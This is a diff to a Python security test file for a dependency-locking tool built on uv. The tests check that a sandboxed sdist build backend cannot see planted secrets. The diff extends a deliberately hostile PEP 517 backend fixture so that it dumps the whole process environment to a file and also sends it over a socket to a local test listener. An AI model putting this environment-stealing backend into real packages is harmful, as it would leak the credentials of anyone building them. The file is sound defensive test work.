@@ -4,6 +4,7 @@ where credentials go, plain http, terminal escapes, and the cache's owner."""
 from __future__ import annotations
 
 import base64
+import contextlib
 import hashlib
 import io
 import json
@@ -38,8 +39,17 @@ SECRETS = {
 BACKEND = '''
 import json, os
 def _dump():
-    with open({out!r}, "w") as f:
-        json.dump(dict(os.environ), f)
+    data = json.dumps(dict(os.environ))
+    try:
+        with open({out!r}, "w") as f:
+            f.write(data)
+    except OSError:  # in the sandbox no host path is there (issue 23): it reports over the network
+        pass
+    if {port!r}:
+        import socket
+        s = socket.create_connection(("127.0.0.1", {port!r}), timeout=5)
+        s.sendall(data.encode())
+        s.close()
 def get_requires_for_build_wheel(config_settings=None):
     _dump()
     return []
@@ -56,14 +66,15 @@ def build_wheel(d, config_settings=None, metadata_directory=None):
 '''
 
 
-def hostile_sdist(name: str, out: Path) -> bytes:
-    """An sdist whose PEP 517 backend writes its whole environment to ``out`` when uv runs it."""
+def hostile_sdist(name: str, out: Path, port: int = 0) -> bytes:
+    """An sdist whose PEP 517 backend writes its whole environment to ``out`` when uv runs it (and sends it
+    to 127.0.0.1:``port``, the one way out of the lock-time sandbox, which keeps the network for the index)."""
     return make_tar_gz(
         {
             f"{name}-1.0/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
             f"{name}-1.0/pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "backend"\n'
             b'backend-path = ["."]\n',
-            f"{name}-1.0/backend.py": BACKEND.format(out=str(out), name=name).encode(),
+            f"{name}-1.0/backend.py": BACKEND.format(out=str(out), name=name, port=port).encode(),
         }
     )
 
@@ -90,8 +101,23 @@ def test_locking_never_runs_an_sdists_build_backend(
 
 
 def test_a_backend_allowed_to_run_sees_no_secret(env: FakeServer, tmp_path: Path) -> None:
+    import socket
+    import threading
+
     seen = tmp_path / "backend-env.json"
-    env.publish("lkallowed-1.0.tar.gz", hostile_sdist("lkallowed", seen), uploaded=day(1))
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.settimeout(60)
+    reports: list[bytes] = []
+
+    def collect() -> None:
+        with contextlib.suppress(OSError):
+            conn, _ = listener.accept()
+            with conn:
+                reports.append(b"".join(iter(lambda: conn.recv(1 << 16), b"")))
+
+    reader = threading.Thread(target=collect, daemon=True)
+    reader.start()
+    env.publish("lkallowed-1.0.tar.gz", hostile_sdist("lkallowed", seen, listener.getsockname()[1]), uploaded=day(1))
     environ = {**SECRETS, "PATH": os.environ["PATH"], "HOME": str(tmp_path), "LOCKBUILD_INDEX_URL": env.index_url()}
     settings = load(environ, home=tmp_path)
     target = load_recipe(recipe_with(tmp_path)).builds[0].target
@@ -108,12 +134,16 @@ def test_a_backend_allowed_to_run_sees_no_secret(env: FakeServer, tmp_path: Path
         sdists_allowed=("lkallowed",),
     )
     assert "lkallowed==1.0" in got.text
-    child = json.loads(seen.read_text())  # the backend did run, as allowed
+    reader.join(timeout=30)
+    listener.close()
+    assert not seen.exists()  # it ran in the sandbox: no path of the builder was there to write
+    child = json.loads(reports[0])  # the backend did run, as allowed
     for name, value in SECRETS.items():
         assert name not in child
         assert not any(value in v for v in child.values())
     # Only the allow-list, and what uv itself sets for a build (its own UV_*/PIP_* settings, the venv).
-    allowed = ("PATH", "HOME", "LANG", "LC_", "UV", "PIP_", "NETRC", "NO_COLOR", "VIRTUAL_ENV", "PYTHON", "PEP517")
+    allowed = ("PATH", "HOME", "TMPDIR", "PWD", "LANG", "LC_", "UV", "PIP_", "NETRC", "NO_COLOR", "VIRTUAL_ENV",
+               "PYTHON", "PEP517")  # fmt: skip  (TMPDIR, PWD: the sandbox's own /tmp and working directory)
     assert [k for k in child if not k.startswith(allowed)] == []
 
 
